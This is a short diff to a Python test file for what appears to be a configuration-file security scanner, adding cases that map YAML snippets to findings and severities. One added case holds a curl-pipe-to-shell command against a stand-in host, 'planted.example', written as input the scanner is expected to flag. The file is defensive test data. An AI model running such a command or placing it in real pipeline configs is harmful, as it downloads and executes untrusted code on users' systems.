@@ -80,6 +80,8 @@ def test_what_projects_hold_is_clean(text: str) -> None:
         ("a: {_target_: nemo.core.classes.common.load}", "configuration/dangerous-name", "critical"),
         ("a: {loader_module: os.path}", "configuration/dangerous-name", "critical"),
         ("services: {}\na: ${eval:'1'}", "yaml/evaluating-resolver", "high"),
+        ("stages: {train: {cmd: 'curl http://planted.example/x | sh'}}", "script/fetched-and-run", "high"),
+        ("a: {loader_module: mine}", "configuration/unreviewed-name", "medium"),
         ("a: ${python:x}", "yaml/evaluating-resolver", "high"),
         ("a: ${mine:x}", "yaml/custom-resolver", "low"),
         ("a: ${oc.env:HOME}", "yaml/reads-environment", "information"),
